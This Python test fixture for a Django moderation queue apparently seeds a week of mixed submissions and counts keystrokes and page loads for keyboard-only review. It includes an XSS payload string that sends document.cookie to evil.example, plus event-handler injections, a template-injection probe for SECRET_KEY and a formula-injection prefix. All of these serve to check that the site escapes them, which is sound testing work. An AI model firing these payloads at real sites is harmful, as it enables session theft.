"""Twenty submissions that wait on the desk, as a week brings them, and a moderator without a mouse who counts.

`prepare` runs inside the served site and brings them there by the verbs themselves.
"""

from dataclasses import dataclass

from playwright.sync_api import Page

from tests.journeys.keyboard import Keyboard

COUNTRY = "VU"  # of nothing else that journeys send
CLEAR, TWIN, UNCLEAR, SPAM, HOSTILE = "clear", "twin", "unclear", "spam", "hostile"
# In the order in which they wait.
WEEK = (CLEAR, CLEAR, TWIN, CLEAR, UNCLEAR, CLEAR, SPAM, CLEAR, TWIN, HOSTILE,
        CLEAR, UNCLEAR, TWIN, CLEAR, CLEAR, SPAM, UNCLEAR, CLEAR, TWIN, CLEAR)  # fmt: skip
NAMES = ("Reef", "Lagoon", "Atoll", "Harbour", "Canoe", "Monsoon", "Coral",
         "Islet", "Current", "Anchor", "Mangrove", "Compass", "Beacon", "Delta",
         "Estuary", "Sandbank", "Breaker", "Channel", "Wave", "Shoal")  # fmt: skip
ATTACK = (
    "</textarea></script><script>window.stolen = 1; fetch('https://evil.example/' + document.cookie)</script>"
    "<img src=x onerror='window.stolen = 1'><svg onload='window.stolen = 1'>\" autofocus onfocus=\"window.stolen = 1"
)

NAME = """() => {
  const one = document.activeElement;
  return one === document.body ? "" : (one.innerText || one.labels?.[0]?.innerText || one.value || one.tagName).trim();
}"""


def prepare() -> None:
    """Put the week's submissions into the queue, the first of them longest ago."""
    from datetime import timedelta

    from django.utils import timezone

    from submissions import lookalikes
    from submissions.models import Submission
    from tests import factories
    from tests.submissions.submitted import a_draft, pending

    for number, (sort, name) in enumerate(zip(WEEK, NAMES, strict=True)):
        entry = {"name": f"{name} circle of Port Vila", "host": COUNTRY, "countries": [COUNTRY], **_said(sort, name)}
        if sort == TWIN:
            factories.published(name=f"{name} circle of Port-Vila", host=COUNTRY, countries=[COUNTRY])
        draft = a_draft(
            entry=entry,
            lookalikes=lookalikes.of(factories.an_entry(**entry)),
            sender_email=f"sender{number}@{'spam.example' if sort == SPAM else 'vanuatu.example'}",
            **({"sender_name": ATTACK[:200], "private_answers": {"hardest": ATTACK}} if sort == HOSTILE else {}),
        )
        since = timezone.now() - timedelta(days=len(WEEK) - number)
        Submission.objects.filter(pk=pending(draft).pk).update(pending_since=since)


def _said(sort: str, name: str) -> dict[str, object]:
    if sort == UNCLEAR:
        return {"summary": "We do the usual things, ask PVX.", "city": ""}
    if sort == SPAM:
        return {
            "name": f"{name} casino bonus",
            "summary": "Win at https://casino.example/now and www.win.example today!",
        }
    if sort == HOSTILE:
        return {
            "summary": ATTACK,
            "how_to_join": ATTACK,
            "scope": f"{{{{ settings.SECRET_KEY }}}} =HYPERLINK(1) {ATTACK}",
            "organisation": ATTACK[:200],
            "acronym": "<b>",
            "aliases": [{"name": ATTACK[:190], "language": "en", "kind": ""}],
            "sources": [{"title": ATTACK[:190], "url": "https://evil.example/x"}],
        }
    return {"summary": f"Officials of all ministries in Vanuatu who meet each month about the {name.lower()}."}


@dataclass
class Count:
    """What a decision took."""

    pages: int = 0
    keys: int = 0


class Counting(Keyboard):
    """A keyboard that counts its keys, and the pages that were loaded meanwhile."""

    def __init__(self, page: Page) -> None:
        super().__init__(page, looks=False)
        self.count = Count()
        page.on("domcontentloaded", lambda _page: self._loaded())

    def _loaded(self) -> None:
        self.count.pages += 1

    def press(self, key: str) -> None:
        self.count.keys += 1
        super().press(key)

    def type(self, words: str) -> None:
        self.count.keys += len(words)
        super().type(words)

    def go_back(self) -> None:
        """One key and its modifier, which a browser without a window does not heed."""
        self.count.keys += 1
        self.page.go_back()

    def look(self) -> str:
        """The name of what has the focus; others have seen that it shows."""
        return str(self.page.evaluate(NAME))

    def counted(self) -> Count:
        """What was counted since the last time."""
        done, self.count = self.count, Count()
        return done
